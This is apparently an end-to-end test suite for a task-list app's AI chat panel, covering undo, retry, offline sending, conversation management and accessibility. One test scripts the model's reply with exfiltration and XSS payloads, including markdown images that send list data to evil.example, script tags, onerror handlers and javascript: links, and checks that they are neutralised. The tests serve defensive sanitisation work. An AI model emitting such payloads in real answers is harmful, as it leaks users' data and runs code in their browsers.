import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";

import { closeBrowser, Visitor } from "./browser";
import { ScriptedModel } from "./scripted-model";
import { complaintsOf, POLL, titlesOn } from "./seen";
import { type Product, start } from "./stack";

let data: string;
let model: ScriptedModel;
let product: Product;
let ann: Visitor;

beforeAll(async () => {
  data = await mkdtemp(join(tmpdir(), "surelist-chat-"));
  model = await ScriptedModel.start();
  product = await start(data, { ...model.settings, SURELIST_TRUSTED_PROXIES: "127.0.0.1, ::1" });
}, 600_000);

afterAll(async () => {
  await closeBrowser();
  await product.stop();
  model.close();
  await rm(data, { recursive: true, force: true });
});

beforeEach(async () => {
  ann = await Visitor.withAccount({ baseURL: product.web });
});

afterEach(() => ann.leave());

/** One call to REST of the product, as that person. */
async function ask(method: string, path: string, body?: object, by = ann): Promise<never> {
  const response = await fetch(`${product.api}/api/me${path}`, {
    method,
    headers: { Authorization: `Bearer ${await by.token()}`, "Content-Type": "application/json" },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  if (!response.ok) throw new Error(`${method} ${path}: ${String(response.status)}`);
  return (response.status === 204 ? null : await response.json()) as never;
}

const add = async (...titles: string[]) => {
  for (const title of titles) await ask("POST", "/tasks", { title });
};
const panel = (page: Page) => page.getByRole("complementary", { name: "Chat" });
const field = (page: Page) => page.getByRole("textbox", { name: "Message" });
const stop = (page: Page) => page.getByRole("button", { name: "Stop" });

async function say(page: Page, text: string): Promise<void> {
  await field(page).fill(text);
  await field(page).press("Enter");
}

/** Until no turn is under way. */
async function ended(page: Page): Promise<void> {
  await page.getByRole("button", { name: "Send" }).waitFor();
  await expect.poll(() => page.getByText("Waiting for the answer").count(), POLL).toBe(0);
}

const messages = async (id: number) =>
  (
    (await ask("GET", `/conversations/${String(id)}/messages`)) as {
      messages: { content: string; failure?: string; replaces?: number }[];
    }
  ).messages;

test("a conversation adds, lists, completes and takes back, and the list moves with it", async () => {
  await add("Call mom");
  const page = await ann.open();
  await page.keyboard.press("c");
  await field(page).waitFor();
  expect(await field(page).evaluate((one) => one === document.activeElement)).toBe(true);
  model.says({ call: "add_task", with: { title: "Buy milk" } }, "I added **Buy milk**.");
  await say(page, "Add milk");
  await panel(page).getByText("Added “Buy milk”").waitFor();
  await panel(page).locator("strong", { hasText: "Buy milk" }).waitFor();
  await expect.poll(() => titlesOn(page), POLL).toEqual(["Call mom", "Buy milk"]);
  expect(new URL(page.url()).search).toBe("?chat=1");
  model.says(
    { call: "list_tasks" },
    { call: "complete_task", with: { task_id: 1 } },
    { call: "complete_task", with: { task_id: 9 } },
    "Call mom is done.",
  );
  await say(page, "What is there? I have called mom");
  await panel(page).getByText("Looked at 2 tasks").waitFor();
  await panel(page).getByText("Completed “Call mom”").waitFor();
  await panel(page).getByText("Completing a task was refused: There is no task 9.").waitFor();
  await expect.poll(() => titlesOn(page), POLL).toEqual(["Buy milk"]);
  await ended(page);
  await page.getByRole("button", { name: "Undo: Completed “Call mom”" }).click();
  await panel(page).getByText("· undone").waitFor();
  await expect.poll(() => titlesOn(page), POLL).toEqual(["Call mom", "Buy milk"]);
  await page.reload();
  await panel(page).getByText("· undone").waitFor();
  expect(
    await panel(page)
      .getByRole("button", { name: /^Undo: / })
      .allInnerTexts(),
  ).toHaveLength(1);
  expect(await messages(1)).toHaveLength(4);
});

test("an undo that another change stands against says so", async () => {
  model.says({ call: "add_task", with: { title: "Milk" } }, "Added.");
  const page = await ann.open("/?chat=new");
  await say(page, "Add milk");
  await ended(page);
  await ask("PATCH", "/tasks/1", { title: "Oat milk" });
  await page.getByRole("button", { name: "Undo: Added “Milk”" }).click();
  await panel(page).getByText("Not undone. It was changed since.").waitFor();
});

test("a turn that is stopped keeps what it did, says so, and can be tried again", async () => {
  model.says({ call: "add_task", with: { title: "Milk" } }, { begun: "And now I will" });
  const page = await ann.open("/?chat=new");
  await say(page, "Add milk");
  await panel(page).getByText("And now I will").waitFor();
  await stop(page).click();
  await panel(page).getByText("This turn was stopped.").waitFor();
  await panel(page).getByText("And now I will").waitFor();
  await panel(page).getByRole("button", { name: "Undo: Added “Milk”" }).waitFor();
  expect((await messages(1)).at(-1)).toMatchObject({ failure: "stopped" });
  model.says("It is there already.");
  await page.getByRole("button", { name: "Retry" }).click();
  await panel(page).getByText("It is there already.").waitFor();
  await panel(page).getByText("Said in other words before").waitFor();
  expect((await messages(1))[2]).toMatchObject({ content: "Add milk", replaces: 1 });
  expect(model.asked.at(-1)?.messages.filter(({ role }) => role === "user")).toHaveLength(1);
});

test("the last message is said in other words, which the model sees alone", async () => {
  const page = await ann.open("/?chat=new");
  model.says("What is mlk?");
  await say(page, "Add mlk");
  await ended(page);
  model.says("Added.");
  await page.getByRole("button", { name: "Edit" }).click();
  expect(await field(page).inputValue()).toBe("Add mlk");
  await say(page, "Add milk");
  await panel(page).getByText("Added.").waitFor();
  const told = JSON.stringify(model.asked.at(-1)?.messages);
  expect([told.includes("Add milk"), told.includes("mlk?")]).toEqual([true, false]);
  await page.getByText("Said in other words before").click();
  await panel(page).getByText("What is mlk?").waitFor();
});

test("a reload in the middle shows what was said, and how it ended", async () => {
  model.says({ call: "add_task", with: { title: "Milk" } }, { begun: "And now" });
  const page = await ann.open("/?chat=new");
  await say(page, "Add milk");
  await panel(page).getByText("And now").waitFor();
  await field(page).fill("Something more");
  await page.reload();
  await panel(page).getByText("Add milk", { exact: true }).waitFor();
  await panel(page).getByText("This turn was stopped.").waitFor();
  await panel(page).getByText("Added “Milk”").waitFor();
  expect(await field(page).inputValue()).toBe("Something more");
});

test("a turn goes on while the panel is closed and another conversation is open", async () => {
  let release = () => {};
  const held = new Promise<void>((resolve) => (release = resolve));
  model.says("One two three four five six seven");
  model.pace = () => held;
  const page = await ann.open("/?chat=new");
  await say(page, "Count");
  await expect.poll(() => new URL(page.url()).search, POLL).toBe("?chat=1");
  await page.getByRole("button", { name: "New conversation" }).click();
  await page.getByText("Talk to your list", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Close the chat" }).click();
  await page.getByRole("link", { name: "Connect" }).click();
  await page.getByRole("heading", { name: "Connect an agent" }).waitFor();
  release();
  await expect.poll(async () => (await messages(1)).at(-1)?.content, POLL).toContain("seven");
  await page.goBack();
  await page.goBack();
  await page.goBack();
  await panel(page).getByText("One two three four five six seven").waitFor();
});

test("what a model writes loads nothing, runs nothing, and says where it leads", async () => {
  const outside: string[] = [];
  const page = await ann.open("/?chat=new");
  page.on("request", (request) => {
    if (!request.url().startsWith(product.web)) outside.push(request.url());
  });
  model.says(
    [
      "![a cat](https://evil.example/cat.png?list=milk)",
      "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>",
      "[click](javascript:document.title='owned') [data](data:text/html,x) [out](/api/auth/sign-out)",
      "[your bank](https://evil.example/steal?list=milk) and https://good.example/",
      "[![inner](https://evil.example/in.png)](https://evil.example/outer)",
    ].join("\n\n"),
  );
  await say(page, "Show me");
  await panel(page).getByText("your bank").waitFor();
  await ended(page);
  const answer = panel(page).getByRole("article").last();
  expect(await answer.locator("img, script, iframe, object, video, audio, style").count()).toBe(0);
  const links = await answer.getByRole("link").evaluateAll((all) =>
    all.map((one) => {
      const { href, target, rel, textContent } = one as HTMLAnchorElement;
      return { href, target, rel, textContent };
    }),
  );
  const safely = { target: "_blank", rel: "noopener noreferrer nofollow" };
  const evil = "https://evil.example";
  expect(links).toEqual([
    {
      ...safely,
      href: `${evil}/cat.png?list=milk`,
      textContent: "a cat (evil.example/cat.png?list=milk)",
    },
    {
      ...safely,
      href: `${evil}/steal?list=milk`,
      textContent: "your bank (evil.example/steal?list=milk)",
    },
    { ...safely, href: "https://good.example/", textContent: "https://good.example/" },
    { ...safely, href: `${evil}/outer`, textContent: "inner (evil.example/outer)" },
  ]);
  expect(await answer.innerText()).toContain("<script>");
  expect(await page.title()).not.toBe("owned");
  expect(outside).toEqual([]);
});

test("an injected task cannot write HTML into a step or a title", async () => {
  const title = "<img src=x onerror=alert(1)> [x](javascript:alert(1))";
  model.says({ call: "add_task", with: { title } }, "Added.");
  const page = await ann.open("/?chat=new");
  await say(page, title);
  await panel(page).getByText(`Added “${title}”`).waitFor();
  await page.getByRole("button", { name: "All conversations" }).click();
  await panel(page).getByRole("button", { name: title, exact: false }).first().waitFor();
  expect(await panel(page).locator("img").count()).toBe(0);
});

test("without a model the panel says how to set one, and shows what agents left", async () => {
  const bob = await Visitor.withAccount(); // of the product that has none
  const page = await bob.open("/?chat=new");
  await page.getByText("The assistant has no model yet").waitFor();
  await page.getByText("SURELIST_MODEL=openai:gpt-5-mini").waitFor();
  expect(await field(page).count()).toBe(0);
  expect(await complaintsOf(page)).toEqual([]);
  await page.getByLabel("Add a task").fill("Still here");
  await page.getByLabel("Add a task").press("Enter");
  await expect.poll(() => titlesOn(page), POLL).toEqual(["Still here"]);
  await page.getByRole("button", { name: "All conversations" }).click();
  await page.getByText("No conversation yet.").waitFor();
  await bob.leave();
});

test("a failure of the model is told in words, and tried again", async () => {
  model.says({ status: 401 });
  const page = await ann.open("/?chat=new");
  await say(page, "Hello");
  await panel(page).getByText("The model's server refused the request.").waitFor();
  model.says("Hello!");
  await page.getByRole("button", { name: "Retry" }).click();
  await panel(page).getByText("Hello!").waitFor();
});

test("what is sent without a network stays, and is sent once when it is back", async () => {
  model.says("First.");
  const page = await ann.open("/?chat=new");
  await say(page, "One");
  await ended(page);
  model.says("Second.");
  await ann.context.setOffline(true);
  await say(page, "Two");
  await panel(page).getByText("There is no connection.").waitFor();
  expect(await field(page).inputValue()).toBe("Two");
  await ann.context.setOffline(false);
  // It arrives, but its answer does not.
  await page.route("**/chat/stream", async (route) => {
    await route.fetch();
    await route.abort();
  });
  await field(page).press("Enter");
  await panel(page).getByText("There is no connection.").waitFor();
  await page.unroute("**/chat/stream");
  await field(page).press("Enter");
  await panel(page).getByText("Second.").waitFor();
  await ended(page);
  expect((await messages(1)).map(({ content }) => content)).toEqual([
    "One",
    "First.",
    "Two",
    "Second.",
  ]);
});

test("two tabs in one conversation: the second is told to wait, and both see the answer", async () => {
  model.says("First.");
  const page = await ann.open("/?chat=new");
  await say(page, "One");
  await ended(page);
  let release = () => {};
  const held = new Promise<void>((resolve) => (release = resolve));
  model.says("Second.");
  model.pace = () => held;
  await say(page, "Two");
  const other = await ann.context.newPage();
  await other.goto("/?chat=1");
  await panel(other).getByText("Two", { exact: true }).waitFor();
  await say(other, "Three");
  await panel(other).getByText("The assistant is still answering the message before.").waitFor();
  expect(await field(other).inputValue()).toBe("Three");
  release();
  for (const one of [page, other]) await panel(one).getByText("Second.").waitFor();
});

test("conversations are found, renamed, deleted, restored and deleted for good", async () => {
  for (const title of ["Groceries", "Holidays"]) {
    await ask("POST", "/chat", { message: title });
  }
  const page = await ann.open("/?chat=all");
  const rows = panel(page).getByRole("list", { name: "Conversations" }).getByRole("listitem");
  await expect.poll(() => rows.count(), POLL).toBe(2);
  await page.getByLabel("Search conversations").fill("groc");
  await expect.poll(() => rows.count(), POLL).toBe(1);
  await page.getByRole("button", { name: "Rename Groceries" }).click();
  await page.getByLabel("Title of the conversation").fill("Food");
  await page.keyboard.press("Enter");
  await page.getByLabel("Search conversations").fill("food");
  await page.getByRole("button", { name: "Delete Food", exact: true }).click();
  await page.getByText("No conversation has these words.").waitFor();
  await page.getByRole("button", { name: "Undo" }).click();
  await panel(page).getByRole("button", { name: /^Food/ }).waitFor();
  await page.getByRole("button", { name: "Delete Food", exact: true }).click();
  await page.getByRole("button", { name: "Trash", exact: true }).click();
  await panel(page).getByRole("button", { name: /^Food/ }).click();
  await panel(page).getByText("This conversation is in the trash.").waitFor();
  expect(await field(page).count()).toBe(0);
  await page.goBack();
  await page.getByRole("button", { name: "Delete Food for good" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete for good" }).click();
  await page.getByText("The trash is empty.").waitFor();
  await expect(ask("GET", "/conversations/1")).rejects.toThrow("404");
});

test("the address opens a conversation, and back and forward go through them", async () => {
  for (const message of ["One", "Two"]) await ask("POST", "/chat", { message });
  const page = await ann.open("/?tag=home&chat=1");
  await panel(page).getByText("One", { exact: true }).first().waitFor();
  await page.getByRole("button", { name: "All conversations" }).click();
  await panel(page).getByRole("button", { name: /^Two/ }).click();
  await panel(page).getByText("Two", { exact: true }).first().waitFor();
  await page.keyboard.press("Escape");
  expect(new URL(page.url()).search).toBe("?tag=home");
  await expect
    .poll(() => page.evaluate(() => document.activeElement?.id), POLL)
    .toBe("chat-button");
  await page.goBack();
  await panel(page).getByText("Two", { exact: true }).first().waitFor();
  await page.goBack();
  await page.getByLabel("Search conversations").waitFor();
  await page.goForward();
  await panel(page).getByText("Two", { exact: true }).first().waitFor();
  expect(new URL(page.url()).search).toBe("?tag=home&chat=2");
});

test("somebody else's conversation is as one that is not there", async () => {
  await ask("POST", "/chat", { message: "A secret" });
  const eve = await Visitor.withAccount({ baseURL: product.web });
  const page = await eve.open("/?chat=1");
  await page.getByText("There is no such conversation.").waitFor();
  await eve.leave();
});

test("a text that is too long or shows nothing is not sent, and loses nothing", async () => {
  const page = await ann.open("/?chat=new");
  const button = page.getByRole("button", { name: "Send" });
  await field(page).fill("\u200b \u2060\n");
  expect(await button.isDisabled()).toBe(true);
  await field(page).fill("x".repeat(50_001));
  await page.getByText("50,001 of 50,000 characters: shorten it by 1 to send it.").waitFor();
  expect(await button.isDisabled()).toBe(true);
  expect((await field(page).inputValue()).length).toBe(50_001);
  model.says("Long.");
  await field(page).press("Backspace");
  await field(page).press("Enter");
  await panel(page).getByText("Long.").waitFor();
  expect((await messages(1))[0]?.content).toHaveLength(50_000);
});

test("axe finds nothing in a conversation, in both themes and on a phone", async () => {
  model.says(
    { call: "add_task", with: { title: "Milk" } },
    "I added it:\n\n- [x] milk\n- [ ] bread\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n# Title\n\n`code`",
  );
  const page = await ann.open("/?chat=new");
  expect(await complaintsOf(page)).toEqual([]);
  await say(page, "Add milk");
  await ended(page);
  for (const width of [1280, 320]) {
    await page.setViewportSize({ width, height: 800 });
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme });
      for (const path of ["/?chat=1", "/?chat=all", "/?chat=trash"]) {
        await page.goto(path);
        await page.getByRole("button", { name: "Close the chat" }).waitFor();
        await page.waitForTimeout(500); // while colours change, they are not what they will be
        expect(await complaintsOf(page), `${path} ${colorScheme} ${String(width)}`).toEqual([]);
        const wide = await page.evaluate(() => document.documentElement.scrollWidth);
        expect(wide).toBeLessThanOrEqual(width);
      }
    }
  }
}, 120_000);

test("on a phone the chat takes the window, and the list keeps its place behind it", async () => {
  await add(...Array.from({ length: 40 }, (_, number) => `Task ${String(number)}`));
  await ann.page.setViewportSize({ width: 390, height: 844 });
  const page = await ann.open();
  await page.getByText("Task 39").or(page.getByText("Task 0")).first().waitFor();
  await page.evaluate(() => window.scrollTo(0, 600));
  await page.evaluate(() => document.getElementById("chat-button")?.click());
  const dialog = page.getByRole("dialog", { name: "Chat" });
  await dialog.waitFor();
  const box = await dialog.boundingBox();
  expect(box).toMatchObject({ x: 0, y: 0, width: 390, height: 844 });
  expect(await page.getByRole("list", { name: "Tasks" }).count()).toBe(0); // inert
  await page.getByRole("button", { name: "Close the chat" }).click();
  expect(await page.evaluate(() => window.scrollY)).toBeGreaterThan(300);
});
